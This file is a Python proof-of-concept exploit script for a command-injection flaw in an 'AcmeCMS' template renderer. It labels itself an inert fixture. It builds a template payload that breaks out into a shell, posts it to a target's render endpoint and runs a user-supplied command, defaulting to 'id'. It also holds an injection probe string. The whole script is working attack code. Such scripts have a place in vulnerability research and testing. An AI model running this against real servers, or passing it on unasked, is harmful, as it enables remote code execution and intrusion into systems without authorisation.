#!/usr/bin/env python3
"""CVE-2024-31001 - AcmeCMS template renderer command injection (inert fixture)."""
import argparse

import requests


def build_payload(cmd):
    # template expression that breaks out into a shell
    return "{{ render('x'; " + cmd + ") }}"


def exploit(target, cmd):
    url = target.rstrip("/") + "/api/template/render"
    resp = requests.post(url, data={"tpl": build_payload(cmd)}, timeout=10)
    return resp.text


def main():
    parser = argparse.ArgumentParser(description="AcmeCMS <= 4.2 RCE")
    parser.add_argument("-t", "--target", required=True, help="base URL, e.g. http://10.0.0.5")
    parser.add_argument("--cmd", default="id", help="command to run")
    args = parser.parse_args()
    probe = "'; id; echo '"
    print(exploit(args.target, args.cmd or probe))


if __name__ == "__main__":
    main()
